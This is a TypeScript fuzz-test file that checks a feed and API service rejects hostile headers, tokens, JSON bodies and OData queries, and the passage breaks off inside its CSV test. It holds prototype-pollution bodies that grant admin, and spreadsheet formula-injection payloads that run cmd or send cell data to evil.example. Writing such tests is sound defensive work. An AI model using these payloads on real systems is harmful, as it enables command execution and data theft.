import { generateTokenValue } from '@feedpass/domain';
import fc from 'fast-check';
import type pg from 'pg';
import { ApiClient } from '../setup/api-client';
import { changedTables, databaseFingerprint } from '../setup/db-fingerprint';
import { MINUTE as MINUTE_MS, signIn } from '../setup/e2e-helpers';
import {
  apiErrorViolation,
  clientHeaders,
  odataErrorViolation,
  probe,
  rawRequest,
  type ProbeResponse,
} from '../setup/hostile-http';
import {
  BASIC_CHALLENGE,
  basicAuth,
  createDataSource,
  dealsChecksum,
  feedKey,
  mintCredentials,
  seedDemoSchema,
  sourcePool,
} from '../setup/odata-helpers';
import {
  countOption,
  DEALS,
  fragmentSoup,
  INJECTIONS,
  pct,
  validFilter,
  validOrderBy,
  validSelect,
} from '../setup/odata-arbitraries';
import { seedTenant, startTestApp, TEST_PASSWORD, type TestApp } from '../setup/test-app';
import { LONG_SESSIONS, parseCsv, patch } from '../setup/token-helpers';

/**
 * Hostile input (issue 7 item 2): property-based tests with fast-check against the real app.
 * Every hostile request must be answered with a 4xx carrying a `code` (JSON API) or an OData
 * error body (feed) — never a 5xx, never a hang (each request has a 5 s timeout) — and must
 * change nothing: a fingerprint of every app table and of demo.deals is compared before and
 * after each property. The seed is fixed (FC_SEED, default 42) and printed with any failure;
 * fast-check shrinks a failure to a small counterexample.
 */

const SEED = Number(process.env.FC_SEED ?? 42);
fc.configureGlobal({ seed: SEED });

/** Runs a property with the fixed seed; a failure names the seed to replay it with. */
async function check<T>(
  arbitrary: fc.Arbitrary<T>,
  predicate: (value: T) => Promise<void>,
  numRuns: number,
): Promise<void> {
  try {
    await fc.assert(fc.asyncProperty(arbitrary, predicate), {
      seed: SEED,
      numRuns,
      includeErrorInReport: true,
    });
  } catch (error) {
    throw new Error(
      `fast-check failed with seed ${SEED} (replay: FC_SEED=${SEED} npx jest … -t '<test name>')\n${(error as Error).message}`,
    );
  }
}

function assertApiError(res: ProbeResponse, what: string, expectedCode?: string): void {
  const problem = apiErrorViolation(res);
  if (problem) throw new Error(`${what}: ${problem}\n${res.status} ${res.text.slice(0, 500)}`);
  const code = (res.json as { code: string }).code;
  if (expectedCode && code !== expectedCode)
    throw new Error(`${what}: code ${code}, expected ${expectedCode}\n${res.text.slice(0, 500)}`);
}

const ODATA_ERRORS = new Set([400, 404, 406, 501]);

describe('hostile input: fuzzed headers, tokens, bodies and OData queries (issue 7 item 2)', () => {
  let test: TestApp;
  let pool: pg.Pool;
  let alice: ApiClient; // Acme admin
  let bob: ApiClient; // Acme user, owns the data source and the token used on the feed
  let anonymous: ApiClient;
  let bobToken: string;
  let bobTokenId: string;
  let sourceId: string;
  let key: string;
  let ipCounter = 0;
  /** A fresh client address for each request, so no throttle window fills up by accident. */
  const ip = () => {
    ipCounter += 1;
    return `10.${(ipCounter >> 16) & 255}.${(ipCounter >> 8) & 255}.${ipCounter & 255}`;
  };

  /** Runs `body` and asserts that no row of any app table or of demo.deals changed. */
  async function unchanged(body: () => Promise<void>): Promise<void> {
    const before = await databaseFingerprint(test);
    await body();
    expect(changedTables(before, await databaseFingerprint(test))).toEqual([]);
  }

  beforeAll(async () => {
    test = await startTestApp({ ...LONG_SESSIONS, TRUST_PROXY: 'loopback' });
    await seedDemoSchema(test, { deals: 2_000 });
    await seedTenant(test, 'Acme', [
      { username: 'alice', role: 'admin' },
      { username: 'bob' },
      { username: 'carol' },
    ]);
    await seedTenant(test, 'Globex', [{ username: 'gina', role: 'admin' }]);
    alice = await signIn(test, 'alice', TEST_PASSWORD);
    bob = await signIn(test, 'bob', TEST_PASSWORD);
    anonymous = new ApiClient(test.baseUrl);
    await anonymous.primeXsrf();
    const minted = await mintCredentials(bob, 'bob', 'feed');
    bobToken = minted.credentials.token;
    bobTokenId = minted.id;
    const source = await createDataSource(bob, 'CRM', ['deals', 'accounts', 'contacts']);
    sourceId = source.id;
    key = feedKey(source);
    pool = sourcePool(test);
  }, 60_000);
  afterAll(async () => {
    await pool?.end();
    await test?.close();
  });

  // -------------------------------------------------------------------------------------------
  describe('the Basic header of the feed', () => {
    const feedUrl = () => `${test.baseUrl}/odata/${key}/Deals?$top=1`;
    const withAuthorization = (authorization: string) =>
      probe(feedUrl(), { headers: { authorization, 'x-forwarded-for': ip() } });

    /** Every refusal is the one Basic challenge with an OData error body. */
    function assertChallenge(res: ProbeResponse, what: string): void {
      const problem = odataErrorViolation(res, (s) => s === 401);
      if (problem) throw new Error(`${what}: ${problem}`);
      if (res.headers.get('www-authenticate') !== BASIC_CHALLENGE)
        throw new Error(`${what}: WWW-Authenticate ${res.headers.get('www-authenticate')}`);
    }

    /** Failed attempts for a real username count toward its hourly limit: time moves on between them. */
    const pass = (ms = 2 * MINUTE_MS) => test.clock.advance(ms);

    it('control: bob with his own token reads the feed (200), so the 401s below are about the input', async () => {
      const res = await withAuthorization(basicAuth('bob', bobToken));
      expect(res.status).toBe(200);
    });

    it('no colon in the decoded credentials → 401 challenge', async () => {
      await unchanged(() =>
        check(
          fc.string({ unit: 'binary', maxLength: 200 }).filter((s) => !s.includes(':')),
          async (payload) => {
            const res = await withAuthorization(
              `Basic ${Buffer.from(payload, 'utf8').toString('base64')}`,
            );
            assertChallenge(res, `payload ${JSON.stringify(payload)}`);
          },
          200,
        ),
      );
    });

    it('empty username, empty token, or both, in every arrangement → 401 challenge', async () => {
      await unchanged(() =>
        check(
          fc.tuple(
            fc.constantFrom('', 'bob', 'BOB', ' ', ':'),
            fc.constantFrom(':', '::', ': ', ' :'),
            fc.constantFrom('', ':', 'TOKEN', ' '),
          ),
          async ([user, middle, tail]) => {
            const payload = `${user}${middle}${tail.replace('TOKEN', bobToken)}`;
            // Only "bob:<token>" (any case of bob) is a real credential; none of these is.
            fc.pre(!/^bob:fpat_/i.test(payload) || payload.split(':')[1] !== bobToken);
            pass();
            const res = await withAuthorization(`Basic ${Buffer.from(payload).toString('base64')}`);
            assertChallenge(res, `payload ${JSON.stringify(payload)}`);
          },
          100,
        ),
      );
    });

    it('bad base64, other schemes and junk after "Basic" → 401 challenge', async () => {
      const junk = fc.string({
        unit: fc.constantFrom(...'ABCDEFabcdef0123456789+/=-_.!~*$%é\u00a0\u00ff \t'.split('')),
        maxLength: 120,
      });
      await unchanged(() =>
        check(
          fc.tuple(
            fc.constantFrom(
              'Basic ',
              'basic ',
              'BASIC ',
              'Basic  ',
              'Bearer ',
              'Digest ',
              'Basic',
              '',
              'Basic=',
              'Negotiate ',
            ),
            junk,
          ),
          async ([scheme, rest]) => {
            const value = `${scheme}${rest}`.trim() || 'Basic';
            const res = await withAuthorization(value);
            assertChallenge(res, `Authorization ${JSON.stringify(value)}`);
          },
          250,
        ),
      );
    });

    it('control characters, NULs and newlines inside the credentials → 401 challenge', async () => {
      const controls = fc.string({
        unit: fc.oneof(
          fc.integer({ min: 0, max: 31 }).map((c) => String.fromCharCode(c)),
          fc.constantFrom('\u007f', 'b', 'o', ':', 'fpat_', '\u2028', '\ufeff'),
        ),
        maxLength: 60,
      });
      await unchanged(() =>
        check(
          fc.tuple(controls, controls),
          async ([user, secret]) => {
            fc.pre(!(user.toLowerCase() === 'bob' && secret.startsWith(bobToken)));
            const res = await withAuthorization(basicAuth(user, secret));
            assertChallenge(res, `credentials ${JSON.stringify(`${user}:${secret}`)}`);
          },
          150,
        ),
      );
    });

    it('control characters in the raw header bytes → refused by the HTTP parser (400) or the feed (401), never a 5xx or a hang', async () => {
      const { hostname, port } = new URL(test.baseUrl);
      const noLineBreaks = (a: Uint8Array) =>
        Buffer.from(a.map((b) => (b === 10 || b === 13 ? 0x7f : b)));
      const bytes = fc.oneof(
        // Anything but CR/LF (which would end the header).
        fc.uint8Array({ minLength: 1, maxLength: 80 }).map(noLineBreaks),
        // Valid base64 with one control character (or DEL, or a high byte) slipped in.
        fc
          .tuple(
            fc.base64String({ minLength: 4, maxLength: 60 }),
            fc.nat(),
            fc.constantFrom(0, 1, 8, 9, 11, 12, 27, 31, 127, 128, 255),
          )
          .map(([b64, at, c]) => {
            const i = at % (b64.length + 1);
            return Buffer.concat([
              Buffer.from(b64.slice(0, i)),
              Buffer.from([c]),
              Buffer.from(b64.slice(i)),
            ]);
          }),
        // Clean base64: reaches the feed, which refuses it.
        fc.base64String({ minLength: 4, maxLength: 60 }).map((b64) => Buffer.from(b64)),
      );
      const seen = new Set<number>();
      await unchanged(() =>
        check(
          bytes,
          async (junk) => {
            const head = Buffer.concat([
              Buffer.from(
                `GET /odata/${key}/Deals?$top=1 HTTP/1.1\r\nHost: ${hostname}:${port}\r\nX-Forwarded-For: ${ip()}\r\nConnection: close\r\nAuthorization: Basic `,
              ),
              junk,
              Buffer.from('\r\n\r\n'),
            ]);
            const res = await rawRequest(hostname, Number(port), head);
            seen.add(res.status);
            if (res.status === 401) {
              const body = JSON.parse(res.body) as { error?: { code?: string } };
              if (
                !body.error?.code ||
                !/www-authenticate: basic realm="feedpass", charset="utf-8"/i.test(res.head)
              )
                throw new Error(`401 without the challenge: ${res.head}`);
            } else if (res.status !== 400) {
              throw new Error(`status ${res.status} for ${junk.toString('hex')}: ${res.head}`);
            }
          },
          150,
        ),
      );
      // Both doors were tried: Node's parser and the feed's own refusal.
      expect([...seen].sort()).toEqual([400, 401]);
    });

    it('headers from 8 KB to 80 KB (64 KB included) → 401, or 431 from Node once past its 16 KB header limit; never a 5xx or a hang', async () => {
      const seen = new Set<number>();
      await unchanged(() =>
        check(
          fc.oneof(fc.constant(64 * 1024), fc.integer({ min: 8 * 1024, max: 80 * 1024 })),
          async (size) => {
            const payload = Buffer.from(`bob:${'x'.repeat(size)}`)
              .toString('base64')
              .slice(0, size);
            const res = await withAuthorization(`Basic ${payload}`);
            seen.add(res.status);
            if (res.status === 431) return;
            assertChallenge(res, `a ${size}-byte header`);
          },
          40,
        ),
      );
      expect([...seen].sort()).toEqual([401, 431]);
    });

    it('Unicode usernames with bob’s real token → 401 unless the name is bob in another case (SPEC 1: case-insensitive)', async () => {
      const lookalikes = fc.constantFrom(
        'ｂｏｂ',
        'bоb',
        'b\u200bob',
        'bob\u0000',
        ' bob',
        'bob ',
        'bob\u0301',
        'BOB',
        'Bob',
        'ʙᴏʙ',
        'bob.',
        'b%6fb',
      );
      await unchanged(() =>
        check(
          fc.oneof(
            lookalikes,
            fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
            fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }),
          ),
          async (username) => {
            fc.pre(!username.includes(':'));
            pass();
            const res = await withAuthorization(basicAuth(username, bobToken));
            if (username.toLowerCase() === 'bob') expect(res.status).toBe(200);
            else assertChallenge(res, `username ${JSON.stringify(username)}`);
          },
          200,
        ),
      );
    });

    it('token strings: wrong prefix, wrong checksum, one character changed, wrong length, other case, well-formed but unknown → 401', async () => {
      const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
      const mutations = fc.oneof(
        fc.string({ minLength: 5, maxLength: 5 }).map((p) => p + bobToken.slice(5)),
        fc
          .constantFrom('FPAT_', 'fpat-', 'fpa_t', 'fpat', 'fpat__', 'ghp_', '')
          .map((p) => p + bobToken.slice(5)),
        fc
          .tuple(fc.integer({ min: 35, max: 40 }), fc.constantFrom(...BASE62))
          .map(([i, c]) => bobToken.slice(0, i) + c + bobToken.slice(i + 1)),
        fc
          .tuple(fc.integer({ min: 0, max: 40 }), fc.constantFrom(...`${BASE62}_-+/=é `))
          .map(([i, c]) => bobToken.slice(0, i) + c + bobToken.slice(i + 1)),
        fc.integer({ min: 0, max: 40 }).map((n) => bobToken.slice(0, n)),
        fc
          .string({ unit: fc.constantFrom(...BASE62), minLength: 1, maxLength: 200 })
          .map((tail) => bobToken + tail),
        fc.constantFrom(
          bobToken.toUpperCase(),
          bobToken.toLowerCase(),
          ` ${bobToken}`,
          `${bobToken} `,
          `${bobToken}\n`,
        ),
        fc.constant(null).map(() => generateTokenValue()),
      );
      await unchanged(() =>
        check(
          mutations,
          async (token) => {
            fc.pre(token !== bobToken);
            pass();
            const res = await withAuthorization(basicAuth('bob', token));
            assertChallenge(res, `token ${JSON.stringify(token)}`);
          },
          250,
        ),
      );
      // None of that locked bob out: his real token still reads the feed.
      expect((await withAuthorization(basicAuth('bob', bobToken))).status).toBe(200);
    });
  });

  // -------------------------------------------------------------------------------------------
  describe('JSON bodies', () => {
    type JsonType = 'string' | 'number' | 'boolean' | 'array' | 'object' | 'null';
    const typeOf = (v: unknown): JsonType =>
      v === null
        ? 'null'
        : Array.isArray(v)
          ? 'array'
          : (typeof v as 'string' | 'number' | 'boolean' | 'object');

    interface Endpoint {
      name: string;
      method: string;
      path: () => string;
      client: () => ApiClient;
      /** A body the endpoint accepts; it is never sent unchanged (that would write). */
      valid: () => Record<string, unknown>;
      /** The JSON types each field accepts (an optional field also accepts null, read as absent). */
      fields: Record<string, JsonType[]>;
    }

    const ENDPOINTS: Endpoint[] = [
      {
        name: 'POST /api/auth/login',
        method: 'POST',
        path: () => '/api/auth/login',
        client: () => anonymous,
        valid: () => ({ username: 'bob', password: TEST_PASSWORD }),
        fields: { username: ['string'], password: ['string'] },
      },
      {
        name: 'POST /api/admin/users',
        method: 'POST',
        path: () => '/api/admin/users',
        client: () => alice,
        valid: () => ({
          username: 'fuzz-user',
          email: 'fuzz-user@example.test',
          displayName: 'Fuzz',
          role: 'user',
          password: 'a-long-enough-password',
          timeZone: 'UTC',
        }),
        fields: {
          username: ['string'],
          email: ['string'],
          displayName: ['string'],
          role: ['string'],
          password: ['string'],
          timeZone: ['string', 'null'],
        },
      },
      {
        name: 'POST /api/tokens',
        method: 'POST',
        path: () => '/api/tokens',
        client: () => bob,
        valid: () => ({ label: 'fuzz', expiresAt: null }),
        fields: { label: ['string'], expiresAt: ['string', 'null'] },
      },
      {
        name: 'PATCH /api/tokens/:id',
        method: 'PATCH',
        path: () => `/api/tokens/${bobTokenId}`,
        client: () => bob,
        valid: () => ({ label: 'renamed' }),
        fields: { label: ['string'] },
      },
      {
        name: 'PUT /api/admin/policy',
        method: 'PUT',
        path: () => '/api/admin/policy',
        client: () => alice,
        valid: () => ({
          mode: 'max',
          lifetimeDays: 30,
          notifyDaysBefore: [7, 1],
          applyToExisting: false,
        }),
        fields: {
          mode: ['string'],
          lifetimeDays: ['number', 'null'],
          notifyDaysBefore: ['array'],
          applyToExisting: ['boolean', 'null'],
        },
      },
      {
        name: 'POST /api/data-sources',
        method: 'POST',
        path: () => '/api/data-sources',
        client: () => bob,
        valid: () => ({ name: 'fuzz source', tables: ['deals'] }),
        fields: { name: ['string'], tables: ['array'] },
      },
      {
        name: 'POST /api/data-sources/:id/shares',
        method: 'POST',
        path: () => `/api/data-sources/${sourceId}/shares`,
        client: () => bob,
        valid: () => ({ username: 'carol' }),
        fields: { userId: ['string', 'null'], username: ['string', 'null'] },
      },
    ];

    async function send(
      endpoint: Endpoint,
      body: string,
      contentType = 'application/json',
    ): Promise<ProbeResponse> {
      const headers = {
        ...clientHeaders(endpoint.client(), endpoint.method),
        'content-type': contentType,
        'x-forwarded-for': ip(),
      };
      return probe(test.baseUrl + endpoint.path(), { method: endpoint.method, headers, body });
    }

    const describeBody = (body: string) =>
      body.length > 300 ? `${body.slice(0, 300)}… (${body.length} chars)` : body;

    const POISON = ['__proto__', 'constructor', 'prototype'] as const;

    /** The JSON of `valid` with `field` set to raw JSON text (which JSON.stringify could not write). */
    const withRaw = (valid: Record<string, unknown>, field: string, raw: string) =>
      JSON.stringify({ ...valid, [field]: '\u0000RAW\u0000' }).replace(
        '"\\u0000RAW\\u0000"',
        () => raw,
      );

    describe.each(ENDPOINTS.map((e) => [e.name, e] as const))('%s', (_, endpoint) => {
      const known = Object.keys(endpoint.fields);

      it('any JSON value as the whole body (and raw non-JSON, and other content types) → 4xx with a code', async () => {
        await unchanged(() =>
          check(
            fc.oneof(
              fc
                .jsonValue({ maxDepth: 4 })
                .map((v) => ({ body: JSON.stringify(v), type: 'application/json' })),
              fc
                .anything({ maxDepth: 3, withNullPrototype: true, withObjectString: true })
                .map((v) => ({ body: JSON.stringify(v) ?? 'undefined', type: 'application/json' })),
              fc.string({ maxLength: 200 }).map((s) => ({ body: s, type: 'application/json' })),
              fc
                .tuple(
                  fc.jsonValue({ maxDepth: 2 }),
                  fc.constantFrom(
                    'text/plain',
                    'application/x-www-form-urlencoded',
                    'application/json; charset=latin1',
                    'application/json; charset=utf-16',
                    'application/xml',
                    'multipart/form-data; boundary=x',
                    '',
                  ),
                )
                .map(([v, type]) => ({
                  body: JSON.stringify({ ...endpoint.valid(), _x: v }),
                  type,
                })),
            ),
            async ({ body, type }) => {
              const res = await send(endpoint, body, type);
              assertApiError(res, `${type} body ${describeBody(body)}`);
            },
            100,
          ),
        );
      });

      it('one field of the wrong JSON type → 400', async () => {
        await unchanged(() =>
          check(
            fc
              .tuple(fc.constantFrom(...known), fc.jsonValue({ maxDepth: 3 }))
              .filter(([field, v]) => !endpoint.fields[field].includes(typeOf(v))),
            async ([field, value]) => {
              const body = JSON.stringify({ ...endpoint.valid(), [field]: value });
              const res = await send(endpoint, body);
              assertApiError(res, `${field} = ${describeBody(JSON.stringify(value))}`);
              expect(res.status).toBe(400);
            },
            100,
          ),
        );
      });

      it('unknown fields → 400 validation_failed', async () => {
        await unchanged(() =>
          check(
            fc.dictionary(
              fc
                .string({ minLength: 0, maxLength: 20 })
                .filter((k) => !known.includes(k) && !POISON.includes(k as never)),
              fc.jsonValue({ maxDepth: 2 }),
              { minKeys: 1, maxKeys: 3 },
            ),
            async (extra) => {
              const body = JSON.stringify({ ...endpoint.valid(), ...extra });
              const res = await send(endpoint, body);
              assertApiError(
                res,
                `extra ${describeBody(JSON.stringify(extra))}`,
                'validation_failed',
              );
            },
            60,
          ),
        );
      });

      it('__proto__ / constructor / prototype keys, at the top or nested → 400, and Object.prototype stays clean', async () => {
        await unchanged(() =>
          check(
            fc.tuple(
              fc.constantFrom(...POISON),
              fc.constantFrom('top', ...known, 'deep'),
              fc.nat({ max: 5 }),
            ),
            async ([poison, where, depth]) => {
              const payload = `${'['.repeat(depth)}{"${poison}":{"polluted":"yes","isAdmin":true,"role":"admin","prototype":{"polluted":"yes"}}}${']'.repeat(depth)}`;
              const body =
                where === 'top'
                  ? JSON.stringify(endpoint.valid()).replace(
                      /^\{/,
                      `{"${poison}":{"polluted":"yes","role":"admin"},`,
                    )
                  : withRaw(endpoint.valid(), where === 'deep' ? 'extra' : where, payload);
              const res = await send(endpoint, body);
              assertApiError(res, `body ${describeBody(body)}`);
              expect(res.status).toBe(400);
              expect(({} as Record<string, unknown>).polluted).toBeUndefined();
              expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
            },
            60,
          ),
        );
      });

      it('huge strings in every field (bodies just under and over the 100 kB limit) → 400', async () => {
        await unchanged(() =>
          check(
            fc.tuple(
              fc.constantFrom(...known),
              fc.integer({ min: 1_000, max: 160_000 }),
              fc.constantFrom('x', 'é', '😀', '"', '\u0000', ' '),
            ),
            async ([field, length, char]) => {
              const body = JSON.stringify({ ...endpoint.valid(), [field]: char.repeat(length) });
              const res = await send(endpoint, body);
              const tooLarge = Buffer.byteLength(body) > 100 * 1024;
              assertApiError(
                res,
                `${field} = ${length} × ${JSON.stringify(char)} (${Buffer.byteLength(body)} bytes)`,
                tooLarge ? 'payload_too_large' : undefined,
              );
              // A long but allowed password (≤ 1024 characters) is just a wrong one.
              if (!(endpoint.name.endsWith('/login') && res.status === 401))
                expect(res.status).toBe(400);
            },
            30,
          ),
        );
      });

      it('deeply nested arrays and objects (within 100 kB) in any field → 400, never a 5xx', async () => {
        await unchanged(() =>
          check(
            fc.tuple(
              fc.constantFrom(...known, 'nested'),
              fc.integer({ min: 1, max: 16_000 }),
              fc.constantFrom('array', 'object'),
            ),
            async ([field, depth, kind]) => {
              const value =
                kind === 'array'
                  ? `${'['.repeat(depth)}${']'.repeat(depth)}`
                  : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
              const body = withRaw(endpoint.valid(), field, value);
              const res = await send(endpoint, body);
              assertApiError(
                res,
                `${field} nested ${depth} deep as ${kind}s (${Buffer.byteLength(body)} bytes)`,
              );
              expect(res.status).toBe(400);
            },
            60,
          ),
        );
      });
    });
  });

  // -------------------------------------------------------------------------------------------
  describe('OData query options', () => {
    const feed = (pathAndQuery: string, headers: Record<string, string> = {}) =>
      probe(`${test.baseUrl}/odata/${key}/${pathAndQuery}`, {
        headers: { authorization: basicAuth('bob', bobToken), 'x-forwarded-for': ip(), ...headers },
      });

    /** 200 with a JSON value array, or an OData error with a 4xx (or 501 for valid but unsupported OData). */
    function assertFeedOutcome(res: ProbeResponse, what: string, allowed = ODATA_ERRORS): void {
      if (res.status === 200) {
        if (/xml/.test(res.headers.get('content-type') ?? '') && res.text.startsWith('<?xml'))
          return; // $metadata
        const value = (res.json as { value?: unknown } | undefined)?.value;
        if (!Array.isArray(value) && !/^\d+$/.test(res.text))
          throw new Error(`${what}: 200 without a value array: ${res.text.slice(0, 300)}`);
        return;
      }
      const problem = odataErrorViolation(res, (s) => allowed.has(s));
      if (problem) throw new Error(`${what}: ${problem}\n${res.text.slice(0, 500)}`);
    }

    let checksum: { n: string; md5: string };
    beforeAll(async () => {
      checksum = await dealsChecksum(pool);
    });
    afterAll(async () => {
      // Nothing any query option did wrote to the source.
      expect(await dealsChecksum(pool)).toEqual(checksum);
    });

    const oracleCount = async (where: string, params: unknown[]) =>
      Number(
        (
          await pool.query<{ n: string }>(
            `select count(*)::text as n from demo.deals where ${where}`,
            params,
          )
        ).rows[0].n,
      );

    it('grammar-valid, type-correct $filter → 200, and @odata.count, /$count and the rows agree with an independent SQL translation', async () => {
      await unchanged(() =>
        check(
          validFilter,
          async (expr) => {
            const params: unknown[] = [];
            const expected = await oracleCount(expr.sql(params), params);
            const res = await feed(`Deals?$filter=${pct(expr.odata)}&$count=true&$top=5`);
            if (res.status !== 200)
              throw new Error(`$filter=${expr.odata}: ${res.status} ${res.text.slice(0, 400)}`);
            const body = res.json as { '@odata.count': number; value: unknown[] };
            expect({
              filter: expr.odata,
              count: body['@odata.count'],
              rows: body.value.length,
            }).toEqual({
              filter: expr.odata,
              count: expected,
              rows: Math.min(5, expected),
            });
            const count = await feed(`Deals/$count?$filter=${pct(expr.odata)}`);
            expect({ filter: expr.odata, status: count.status, text: count.text }).toEqual({
              filter: expr.odata,
              status: 200,
              text: String(expected),
            });
          },
          200,
        ),
      );
    });

    it('grammar-valid $orderby (with and without a $filter) → 200 in exactly the order SQL gives', async () => {
      await unchanged(() =>
        check(
          fc.tuple(validOrderBy, fc.option(validFilter, { nil: undefined })),
          async ([order, filter]) => {
            const params: unknown[] = [];
            const where = filter ? ` where ${filter.sql(params)}` : '';
            // (An output alias named id would make ORDER BY id sort the text.)
            const { rows } = await pool.query<{ id_text: string }>(
              `select id::text as id_text from demo.deals${where} order by ${order.sql} limit 25`,
              params,
            );
            const query = `$orderby=${pct(order.odata)}&$top=25&$select=Id${filter ? `&$filter=${pct(filter.odata)}` : ''}`;
            const res = await feed(`Deals?${query}`);
            if (res.status !== 200)
              throw new Error(
                `${decodeURIComponent(query)}: ${res.status} ${res.text.slice(0, 400)}`,
              );
            const ids = (res.json as { value: { Id: number }[] }).value.map((r) => String(r.Id));
            expect({ query: decodeURIComponent(query), ids }).toEqual({
              query: decodeURIComponent(query),
              ids: rows.map((r) => r.id_text),
            });
          },
          120,
        ),
      );
    });

    it('grammar-valid $select → 200 with exactly the chosen properties on every row and in @odata.context', async () => {
      await unchanged(() =>
        check(
          validSelect,
          async (names) => {
            const res = await feed(`Deals?$select=${pct(names.join(','))}&$top=3`);
            expect(res.status).toBe(200);
            const body = res.json as { '@odata.context': string; value: Record<string, unknown>[] };
            for (const row of body.value)
              expect(Object.keys(row).sort()).toEqual([...names].sort());
            const listed = /#Deals\(([^)]*)\)$/.exec(body['@odata.context'])?.[1].split(',') ?? [];
            expect(listed.sort()).toEqual([...names].sort());
          },
          80,
        ),
      );
    });

    it('$top and $skip: whole numbers page exactly (with odata.maxpagesize and nextLink); anything else → 400', async () => {
      const total = 2_000;
      await unchanged(() =>
        check(
          fc.tuple(
            fc.option(countOption, { nil: undefined }),
            fc.option(countOption, { nil: undefined }),
          ),
          async ([top, skip]) => {
            const query = [
              top !== undefined ? `$top=${pct(top)}` : '',
              skip !== undefined ? `$skip=${pct(skip)}` : '',
              '$select=Id',
            ]
              .filter(Boolean)
              .join('&');
            const res = await feed(`Deals?${query}`, { prefer: 'odata.maxpagesize=50' });
            const whole = (v: string | undefined) => v === undefined || /^\d{1,9}$/.test(v);
            if (!whole(top) || !whole(skip)) {
              const problem = odataErrorViolation(res, (s) => s === 400);
              if (problem) throw new Error(`${query}: ${problem}`);
              return;
            }
            expect(res.status).toBe(200);
            const body = res.json as { value: unknown[]; '@odata.nextLink'?: string };
            const available = Math.max(0, total - Number(skip ?? 0));
            const wanted = Math.min(top === undefined ? Infinity : Number(top), available);
            expect({ query, rows: body.value.length, next: !!body['@odata.nextLink'] }).toEqual({
              query,
              rows: Math.min(wanted, 50),
              next: wanted > 50,
            });
          },
          200,
        ),
      );
    });

    it('random $filter text (fragment soup) → 200, 400 or 501 with an OData error; never a 5xx', async () => {
      await unchanged(() =>
        check(
          fragmentSoup,
          async (text) => {
            assertFeedOutcome(await feed(`Deals?$filter=${pct(text)}`), `$filter=${text}`);
            assertFeedOutcome(
              await feed(`Deals/$count?$filter=${pct(text)}`),
              `$count $filter=${text}`,
            );
          },
          250,
        ),
      );
    });

    it('random $orderby and $select text → 200, 400 or 501 with an OData error; never a 5xx', async () => {
      await unchanged(() =>
        check(
          fc.tuple(fc.constantFrom('$orderby', '$select'), fragmentSoup),
          async ([option, text]) => {
            assertFeedOutcome(await feed(`Deals?${option}=${pct(text)}`), `${option}=${text}`);
          },
          200,
        ),
      );
    });

    it('injection payloads in every option and path segment → refused or answered harmlessly; nothing written', async () => {
      const options = [
        '$filter',
        '$orderby',
        '$select',
        '$top',
        '$skip',
        '$skiptoken',
        '$count',
        '$format',
        '$expand',
        '$search',
        '$apply',
        'RangeStart',
        'x',
      ];
      await unchanged(() =>
        check(
          fc.tuple(
            fc.constantFrom(...INJECTIONS),
            fc.constantFrom(...options, 'segment', 'count-segment', 'key'),
          ),
          async ([payload, where]) => {
            let res: ProbeResponse;
            if (where === 'segment') res = await feed(pct(payload));
            else if (where === 'count-segment') res = await feed(`Deals/${pct(payload)}`);
            else if (where === 'key')
              res = await probe(`${test.baseUrl}/odata/${pct(payload)}/Deals`, {
                headers: { authorization: basicAuth('bob', bobToken), 'x-forwarded-for': ip() },
              });
            else res = await feed(`Deals?${where}=${pct(payload)}`);
            assertFeedOutcome(res, `${where} ← ${payload.slice(0, 200)}`);
          },
          250,
        ),
      );
    });

    it('raw query strings (bad %-escapes, repeated and unknown options, stray & and =) → 200 or a 4xx/501 OData error', async () => {
      const raw = fc.string({
        unit: fc.constantFrom(
          '$',
          'filter',
          'top',
          'orderby',
          'select',
          'expand',
          '=',
          '&',
          '%',
          '%2',
          '%zz',
          '%C3',
          '%E0%A4%A',
          '%00',
          '%25',
          '+',
          "'",
          'Id',
          ' eq ',
          '1',
          ',',
          '(',
          ')',
          ';',
          '..',
          '/',
        ),
        maxLength: 20,
      });
      await unchanged(() =>
        check(
          fc.tuple(raw, fc.constantFrom('Deals', 'Deals/$count', '', '$metadata')),
          async ([query, path]) => {
            assertFeedOutcome(
              await feed(`${path}?${query.replace(/ /g, '%20')}`),
              `${path}?${query}`,
            );
          },
          200,
        ),
      );
    });

    it('OData v4: null sorts before other values ascending and after them descending (ODATA-330, URL conventions $orderby)', async () => {
      for (const [direction, nulls] of [
        ['asc', 'nulls first'],
        ['desc', 'nulls last'],
      ]) {
        const { rows } = await pool.query<{ id_text: string }>(
          `select id::text as id_text from demo.deals order by closed_at ${direction} ${nulls}, id limit 10`,
        );
        const res = await feed(
          `Deals?$orderby=ClosedAt%20${direction}&$top=10&$select=Id,ClosedAt`,
        );
        expect(res.status).toBe(200);
        const ids = (res.json as { value: { Id: number }[] }).value.map((r) => String(r.Id));
        expect({ direction, ids }).toEqual({ direction, ids: rows.map((r) => r.id_text) });
      }
    });

    it('the DEALS model used by these properties is the one the feed serves', async () => {
      const res = await feed('$metadata');
      expect(res.status).toBe(200);
      for (const column of DEALS)
        expect(res.text).toContain(`Name="${column.name}" Type="${column.type}"`);
    });
  });

  // -------------------------------------------------------------------------------------------
  describe('CSV export (formula injection)', () => {
    it('labels starting with =, +, - or @ come out of the admin CSV export neutralised with a leading apostrophe; the JSON keeps them as written', async () => {
      const label = fc.oneof(
        fc
          .tuple(
            fc.constantFrom('=', '+', '-', '@'),
            fc.string({ unit: 'grapheme', maxLength: 40 }),
          )
          .map(([first, rest]) => `${first}${rest}`.trimEnd()),
        fc.constantFrom(
          `=cmd|' /C calc'!A0`,
          '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
          '+1+1',
          "-2+3+cmd|' /C calc'!A0",
          '@SUM(1,2)',
          '=1+1,"quoted",',
          '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
          "-'",
          '@',
        ),
      );
      await check(
        label.filter(
          (l) =>
            l.length > 0 &&
            [...l].length <= 100 &&
            !/[\u0000-\u001f\u007f]/.test(l) &&
            l.isWellFormed(),
        ),
        async (value) => {
          const renamed = await patch(bob, `/api/tokens/${bobTokenId}`, { label: value });
          if (renamed.status !== 200)
            throw new Error(
              `label ${JSON.stringify(value)} refused: ${renamed.status} ${renamed.text}`,
            );
          const csv = await alice.get(
            `/api/admin/history?tokenId=${bobTokenId}&type=token.label_changed&limit=1`,
            { accept: 'text/csv' },
          );
          expect(csv.status).toBe(200);
